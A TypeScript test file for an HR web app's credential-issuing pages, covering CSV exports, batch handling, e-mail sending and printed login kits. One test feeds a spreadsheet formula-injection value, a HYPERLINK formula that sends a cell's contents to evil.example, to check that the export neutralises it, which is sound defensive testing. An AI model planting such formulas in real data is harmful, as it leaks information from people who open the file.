import { screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import Encoding from 'encoding-japanese'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { calls, json, mockFetch } from '../../../../test/fetch-mock.ts'
import { paths, routePatterns } from '../../../config/paths.ts'
import { setCsrfToken } from '../../../lib/api-client.ts'
import { buildIssue, buildIssuedCredential, CAMPAIGN_ID } from '../../../test/factories.ts'
import { renderRoute } from '../../../test/render-route.tsx'
import { useIssuedCredentials } from '../stores/issued-credentials.ts'
import { CredentialsPage } from './credentials-page.tsx'
import { KitPage } from './kit-page.tsx'

const base = `/api/admin/campaigns/${CAMPAIGN_ID}`
const taro = buildIssuedCredential({ name: '総合, "太郎"', kana: 'ソウゴウ タロウ', email: null })
const hanako = buildIssuedCredential({ name: '髙橋 花子', kana: 'タカハシ ハナコ', employeeNumber: null })
const issue = buildIssue([taro, hanako])
const noBatches = { configured: true, batches: [] }
const noOpenBatches = { unissued: 2, batches: [] }
/** A batch of 300 issued but not yet handed out (ADR 039). */
const open = {
  id: '33333333-3333-4333-8333-333333333333',
  createdAt: '2026-11-27T01:02:03.000Z',
  expiresAt: '2026-12-04T01:02:03.000Z',
  issuedBy: '人事 一郎',
  count: 300,
}

const expectedCsv =
  '社員番号,氏名,フリガナ,メールアドレス,ログインURL,パスワード\r\n' +
  `${taro.employeeNumber},"総合, ""太郎""",ソウゴウ タロウ,,${taro.url},${taro.password}\r\n` +
  `,髙橋 花子,タカハシ ハナコ,${hanako.email},${hanako.url},${hanako.password}\r\n`

function renderCredentials(search = '') {
  return renderRoute(
    [
      { path: routePatterns.campaignCredentials, element: <CredentialsPage /> },
      { path: routePatterns.campaignKit, element: <KitPage /> },
    ],
    `${paths.campaignCredentials(CAMPAIGN_ID)}${search}`,
  )
}

/** Captures what the page saves as a file. */
function captureDownloads() {
  const blobs: Blob[] = []
  URL.createObjectURL = vi.fn((blob: Blob) => {
    blobs.push(blob)
    return 'blob:download'
  })
  URL.revokeObjectURL = vi.fn()
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {})
  return blobs
}
const bytesOf = async (blob: Blob | undefined) => new Uint8Array(await blob!.arrayBuffer())

beforeEach(() => setCsrfToken('csrf-token-1'))
afterEach(() => useIssuedCredentials.getState().reset())

describe('CredentialsPage', () => {
  it('issues for everyone without credentials, lists them once, and saves the mail-merge CSV in UTF-8 (BOM) and Shift_JIS', async () => {
    const fetchMock = mockFetch({
      [`POST ${base}/credentials`]: () => json(200, issue),
      [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
    })
    const downloads = captureDownloads()
    renderCredentials()
    await userEvent.click(await screen.findByRole('button', { name: '未発行の全員に発行する' }))
    await userEvent.click(screen.getByRole('button', { name: '発行する' }))

    expect(await screen.findByText(/パスワードが表示されるのは今だけです/)).toBeInTheDocument()
    const list = screen.getByRole('table', { name: /2 人分を発行しました/ })
    expect(within(list).getByRole('row', { name: /髙橋 花子/ })).toHaveTextContent(hanako.password)
    expect(calls(fetchMock, `POST ${base}/credentials`)[0]?.[1]?.body).toBe('{}')

    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (UTF-8, BOM)' }))
    const utf8 = await bytesOf(downloads[0])
    expect([...utf8.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(utf8.slice(3))).toBe(expectedCsv)

    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (Shift_JIS)' }))
    const sjis = await bytesOf(downloads[1])
    expect([...sjis.slice(0, 2)]).toEqual([0x8e, 0xd0]) // 社 in Shift_JIS
    expect(Encoding.codeToString(Encoding.convert(sjis, { to: 'UNICODE', from: 'SJIS' }))).toBe(expectedCsv)

    const reports = calls(fetchMock, `POST ${base}/credentials/exports`).map(([, init]) => JSON.parse(String(init?.body)))
    const ids = [taro.employeeId, hanako.employeeId]
    expect(reports).toEqual([
      { format: 'mail_merge_utf8', employeeIds: ids },
      { format: 'mail_merge_sjis', employeeIds: ids },
    ])
    // Passwords stay in memory: nothing persisted.
    expect(sessionStorage.length + localStorage.length).toBe(0)
  })

  it('saves a name or e-mail that would start a formula behind a quote mark, so Excel shows it as text (ADR 032)', async () => {
    const hostile = buildIssuedCredential({ employeeNumber: '-1+2', name: '=HYPERLINK("https://evil.example/?"&F2,"詳細")', email: '@x.example' })
    mockFetch({
      [`POST ${base}/credentials`]: () => json(200, buildIssue([hostile])),
      [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
    })
    const downloads = captureDownloads()
    renderCredentials()
    await userEvent.click(await screen.findByRole('button', { name: '未発行の全員に発行する' }))
    await userEvent.click(screen.getByRole('button', { name: '発行する' }))
    await screen.findByRole('table', { name: /1 人分を発行しました/ })
    const row = `"'-1+2","'=HYPERLINK(""https://evil.example/?""&F2,""詳細"")",ソウゴウ タロウ,"'@x.example",${hostile.url},${hostile.password}\r\n`

    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (UTF-8, BOM)' }))
    expect(new TextDecoder('utf-8').decode(await bytesOf(downloads[0])).split('\r\n')[1]).toBe(row.slice(0, -2))
    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (Shift_JIS)' }))
    const sjis = Encoding.codeToString(Encoding.convert(await bytesOf(downloads[1]), { to: 'UNICODE', from: 'SJIS' }))
    expect(sjis.split('\r\n')[1]).toBe(row.slice(0, -2))
  })

  it('re-issues for the employees in ?employees= after a confirmation, then opens the postal kit', async () => {
    const fetchMock = mockFetch({
      [`POST ${base}/credentials`]: () => json(200, issue),
      [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
    })
    const { router } = renderCredentials(`?employees=${taro.employeeId},${hanako.employeeId}`)
    expect(screen.getByText('対象: 選択した従業員 2 人（再発行）')).toBeInTheDocument()
    await userEvent.click(screen.getByRole('button', { name: '選択した従業員に発行する' }))
    expect(calls(fetchMock, `POST ${base}/credentials`)).toHaveLength(0)
    await userEvent.click(screen.getByRole('button', { name: '発行する' }))
    await screen.findByRole('table', { name: /2 人分を発行しました/ })
    expect(JSON.parse(String(calls(fetchMock, `POST ${base}/credentials`)[0]?.[1]?.body))).toEqual({
      employeeIds: [taro.employeeId, hanako.employeeId],
    })

    await userEvent.click(screen.getByRole('button', { name: '郵送キットを印刷' }))
    expect(router.state.location.pathname).toBe(paths.campaignKit(CAMPAIGN_ID))
    // The one without an e-mail address (the kit page's choice is tested below).
    expect(await screen.findAllByRole('article')).toHaveLength(1)
    // Back on the credentials page, what waits to be handed out is read again: an answer older
    // than the issue must not stand for it (it once hid the new batch under load).
    const read = calls(fetchMock, `GET ${base}/credential-batches`).length
    await userEvent.click(screen.getByRole('link', { name: '認証情報の画面へ戻る' }))
    await waitFor(() => expect(calls(fetchMock, `GET ${base}/credential-batches`).length).toBeGreaterThan(read))
  })

  it('says so when a selected employee was disposed of (廃棄), and lists nothing', async () => {
    mockFetch({
      [`POST ${base}/credentials`]: () => json(409, { error: { code: 'PERSON_DISPOSED', message: 'disposed' } }),
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
    })
    renderCredentials(`?employees=${taro.employeeId}`)
    await userEvent.click(screen.getByRole('button', { name: '選択した従業員に発行する' }))
    await userEvent.click(screen.getByRole('button', { name: '発行する' }))
    expect(await screen.findByRole('alert')).toHaveTextContent('この方の書類は廃棄済みです。承認・差し戻し・個人番号の記録も、認証情報の発行もできません。')
    expect(screen.queryByRole('table')).not.toBeInTheDocument()
  })

  it('asks with the count before issuing to everyone, and lists a batch not yet handed out until 「配布しました」 (ADR 039)', async () => {
    let batches = { unissued: 0, batches: [open] }
    const fetchMock = mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, batches),
      [`POST ${base}/credential-batches/${open.id}/distributed`]: () => {
        batches = { unissued: 0, batches: [] }
        return json(200, { live: 299, superseded: ['44444444-4444-4444-8444-444444444444'] })
      },
    })
    renderCredentials()
    // Nobody left to issue to: no button, and the open batch says why its logins do not work yet.
    expect(await screen.findByText('発行の対象になる従業員はいません（全員が発行済みか、配布待ちです）。')).toBeInTheDocument()
    const section = screen.getByRole('region', { name: '配布待ちの認証情報' })
    expect(within(section).getByText('300 人分（未配布）')).toBeInTheDocument()
    expect(within(section).getByText(/人事 一郎/)).toBeInTheDocument()

    await userEvent.click(within(section).getByRole('button', { name: '配布しました' }))
    expect(calls(fetchMock, `POST ${base}/credential-batches/${open.id}/distributed`)).toHaveLength(0)
    expect(within(section).getByText(/300 人分を本人に届けましたか/)).toBeInTheDocument()
    await userEvent.click(within(section).getAllByRole('button', { name: '配布しました' })[0]!)
    expect(
      await screen.findByText('299 人分のログインを有効にしました。1 人はその後に新しい認証情報（メール等）を受け取っていたため、そちらのままです。'),
    ).toBeInTheDocument()
  })

  it('cancels a batch whose passwords were lost after a confirmation, and says its logins never worked', async () => {
    let batches = { unissued: 0, batches: [open] }
    const fetchMock = mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, batches),
      [`POST ${base}/credential-batches/${open.id}/cancel`]: () => {
        batches = { unissued: 300, batches: [] }
        return new Response(null, { status: 204 })
      },
    })
    renderCredentials()
    const section = await screen.findByRole('region', { name: '配布待ちの認証情報' })
    await userEvent.click(within(section).getByRole('button', { name: '取り消す' }))
    expect(within(section).getByText(/300 人分を取り消します。/)).toBeInTheDocument()
    await userEvent.click(within(section).getAllByRole('button', { name: '取り消す' })[0]!)
    expect(await screen.findByText('300 人分を取り消しました。これらの URL とパスワードは一度も使えないまま無効になりました。')).toBeInTheDocument()
    expect(calls(fetchMock, `POST ${base}/credential-batches/${open.id}/cancel`)).toHaveLength(1)
    // Everyone of the batch is back among those to issue to.
    expect(await screen.findByText('対象: 認証情報をまだ発行していない全員（300 人。配布待ちの人を除く）')).toBeInTheDocument()
  })

  it('shows the number of employees before issuing to everyone', async () => {
    mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, { unissued: 300, batches: [] }),
    })
    renderCredentials()
    expect(await screen.findByText('対象: 認証情報をまだ発行していない全員（300 人。配布待ちの人を除く）')).toBeInTheDocument()
    await userEvent.click(screen.getByRole('button', { name: '未発行の全員に発行する' }))
    expect(screen.getByText('300 人に認証情報を発行します。配布して「配布しました」を押すまで、ログインには使えません。よろしいですか？')).toBeInTheDocument()
  })

  it('shows e-mail as not configured (SMTP_URL) with its buttons disabled', async () => {
    mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, { configured: false, batches: [] }),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
    })
    renderCredentials()
    // HR is told in words what to do; the setting's name (SMTP_URL) is for the system administrator.
    expect(await screen.findByText(/システム管理者にメール送信の設定を依頼してください/)).toBeInTheDocument()
    expect(screen.queryByText(/SMTP_URL/)).not.toBeInTheDocument()
    expect(screen.getByRole('button', { name: 'リマインド' })).toBeDisabled()
    expect(screen.getByRole('button', { name: '認証情報をメールで送る' })).toBeDisabled()
  })

  it('sends a reminder after a confirmation and lists the batch with its counts', async () => {
    const batch = {
      id: '22222222-2222-4222-8222-222222222222',
      kind: 'reminder',
      createdAt: '2026-11-27T01:00:00.000Z',
      finishedAt: null,
      counts: { pending: 3, sending: 1, sent: 5, failed: 1, unknown: 0 },
    }
    let batches: unknown[] = []
    const fetchMock = mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, { configured: true, batches }),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
      [`POST ${base}/email-batches/preview`]: () =>
        json(200, { kind: 'reminder', newCredentials: 0, reissues: 0, reissuesLeftOut: 0, reminders: 10, alreadyQueued: 0, withoutAddress: [] }),
      [`POST ${base}/email-batches`]: () => {
        batches = [batch]
        return json(202, batch)
      },
    })
    renderCredentials()
    await userEvent.click(await screen.findByRole('button', { name: 'リマインド' }))
    expect(await screen.findByText('リマインドを送る: 10 人')).toBeInTheDocument()
    await userEvent.click(screen.getByRole('button', { name: '10 人に送信する' }))

    const row = await screen.findByRole('row', { name: /リマインド 送信中 3 1 5 1 0/ })
    expect(row).toBeInTheDocument()
    expect(JSON.parse(String(calls(fetchMock, `POST ${base}/email-batches`)[0]?.[1]?.body))).toEqual({ kind: 'reminder' })
  })
})

describe('sending credentials by e-mail', () => {
  it('shows who gets what and who cannot be mailed before sending, and re-issues handed-out logins only when ticked', async () => {
    const fetchMock = mockFetch({
      [`GET ${base}/email-batches`]: () => json(200, noBatches),
      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
      [`POST ${base}/email-batches/preview`]: (request) =>
        json(200, {
          kind: 'credentials',
          newCredentials: 200,
          reissues: (request.json() as { reissue?: boolean }).reissue ? 48 : 0,
          reissuesLeftOut: (request.json() as { reissue?: boolean }).reissue ? 0 : 48,
          reminders: 0,
          alreadyQueued: 0,
          withoutAddress: Array.from({ length: 52 }, (_, i) => ({ employeeId: crypto.randomUUID(), employeeNumber: `E${i}`, name: `社員 ${i}` })),
        }),
      [`POST ${base}/email-batches`]: () =>
        json(202, {
          id: crypto.randomUUID(),
          kind: 'credentials',
          createdAt: '2026-11-27T01:00:00.000Z',
          finishedAt: null,
          counts: { pending: 248, sending: 0, sent: 0, failed: 0, unknown: 0 },
        }),
    })
    renderCredentials(`?employees=${taro.employeeId}`)
    await userEvent.click(await screen.findByRole('button', { name: '選択した従業員に認証情報をメールで送る' }))
    const panel = await screen.findByRole('group', { name: '選択した従業員に認証情報をメールで送る' })
    expect(await within(panel).findByText('新しい認証情報を送る: 200 人')).toBeInTheDocument()
    expect(within(panel).getByText('すでに認証情報を配布済みのため送らない: 48 人')).toBeInTheDocument()
    expect(within(panel).getByText(/メールアドレスがないため送れない: 52 人/)).toHaveTextContent('E0 社員 0、E1 社員 1')
    expect(within(panel).getByText(/ほか 42 人/)).toBeInTheDocument()
    expect(within(panel).getByRole('button', { name: '200 人に送信する' })).toBeEnabled()

    await userEvent.click(within(panel).getByRole('checkbox', { name: /配布済みの 48 人にも再発行して送る/ }))
    expect(await within(panel).findByText(/再発行して送る: 48 人/)).toBeInTheDocument()
    await userEvent.click(within(panel).getByRole('button', { name: '248 人に送信する' }))
    expect(JSON.parse(String(calls(fetchMock, `POST ${base}/email-batches`)[0]?.[1]?.body))).toEqual({
      kind: 'credentials',
      employeeIds: [taro.employeeId],
      reissue: true,
    })
  })
})

describe('KitPage', () => {
  it('prints one A4 sheet per employee with a QR code, URL and password, and reports the print', async () => {
    const fetchMock = mockFetch({ [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }) })
    const print = vi.fn()
    vi.stubGlobal('print', print)
    useIssuedCredentials.getState().keep(CAMPAIGN_ID, issue)
    renderRoute([{ path: routePatterns.campaignKit, element: <KitPage /> }], paths.campaignKit(CAMPAIGN_ID))

    // Only the one without an e-mail address at first: the other can be mailed.
    expect(screen.getByRole('radio', { name: 'メールアドレスのない人だけ（1 人）' })).toBeChecked()
    expect(screen.getAllByRole('article').map((sheet) => within(sheet).getByRole('heading', { level: 2 }).textContent)).toEqual(['総合, "太郎" 様'])
    await userEvent.click(screen.getByRole('radio', { name: '全員（2 人）' }))
    const sheets = screen.getAllByRole('article')
    expect(sheets).toHaveLength(2)
    const sheet = within(sheets[1]!)
    expect(sheet.getByRole('heading', { name: '髙橋 花子 様' })).toBeInTheDocument()
    expect(sheet.getByText(/株式会社総合\s2026年 年末調整/)).toBeInTheDocument()
    const qr = sheet.getByRole('img', { name: /髙橋 花子 様の登録用 URL の QR コード/ })
    expect(qr.tagName.toLowerCase()).toBe('svg')
    expect(qr.querySelector('path')?.getAttribute('d')).toMatch(/^M\d+ \d+h1v1h-1z/)
    expect(sheet.getByText(hanako.url)).toBeInTheDocument()
    expect(sheet.getByText(hanako.password)).toBeInTheDocument()
    expect(sheet.getByText(/Internet Explorer は、ご利用いただけません/)).toBeInTheDocument()
    // By when, what to prepare, and whom to ask.
    expect(sheet.getByText('提出期限: 2026年12月25日')).toBeInTheDocument()
    expect(sheet.getByRole('heading', { name: 'ご用意いただくもの' })).toBeInTheDocument()
    expect(sheet.getByText('人事部 山田（内線 1234）')).toBeInTheDocument()

    await userEvent.click(screen.getByRole('button', { name: '印刷する' }))
    expect(print).toHaveBeenCalledOnce()
    expect(JSON.parse(String(calls(fetchMock, `POST ${base}/credentials/exports`)[0]?.[1]?.body))).toEqual({
      format: 'postal_kit',
      employeeIds: [taro.employeeId, hanako.employeeId],
    })
  })

  it('lays a sheet with a postal address out for a window envelope: the address alone above the fold', () => {
    const jiro = buildIssuedCredential({ name: '佐藤 次郎', email: null, postal: { postalCode: '100-0001', address: '東京都千代田区千代田 1-1' } })
    useIssuedCredentials.getState().keep(CAMPAIGN_ID, buildIssue([jiro]))
    renderRoute([{ path: routePatterns.campaignKit, element: <KitPage /> }], paths.campaignKit(CAMPAIGN_ID))
    const sheet = screen.getByRole('article', { name: '佐藤 次郎 様' })
    expect(sheet).toHaveClass('kit-sheet--window')
    const address = within(sheet).getByRole('group', { name: '宛先（窓付き封筒の窓に出る位置）' })
    expect(address).toHaveTextContent('〒100-0001東京都千代田区千代田 1-1佐藤 次郎 様')
    expect(address).not.toHaveTextContent(jiro.password)
  })

  it('says the passwords are gone when nothing was issued in this tab', () => {
    renderRoute([{ path: routePatterns.campaignKit, element: <KitPage /> }], paths.campaignKit(CAMPAIGN_ID))
    expect(screen.getByRole('status')).toHaveTextContent('もう一度発行してください')
    expect(screen.queryByRole('button', { name: '印刷する' })).not.toBeInTheDocument()
  })
})
